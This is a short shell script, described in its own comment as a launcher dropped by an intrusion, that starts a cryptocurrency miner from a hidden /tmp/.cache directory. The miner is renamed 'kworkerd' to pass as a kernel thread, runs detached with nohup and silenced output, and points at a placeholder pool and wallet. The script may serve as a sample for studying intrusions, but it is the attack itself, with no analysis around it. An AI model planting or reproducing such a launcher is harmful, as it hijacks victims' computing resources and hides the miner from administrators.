#!/bin/sh
# A launcher as dropped by an intrusion: a renamed miner, its pool and options.
cd /tmp/.cache || exit 0
nohup ./kworkerd -o stratum+tcp://pool.example.invalid:4444 -u WALLET-PLACEHOLDER -p x \
    --donate-level 1 --cpu-priority 0 -B >/dev/null 2>&1 &
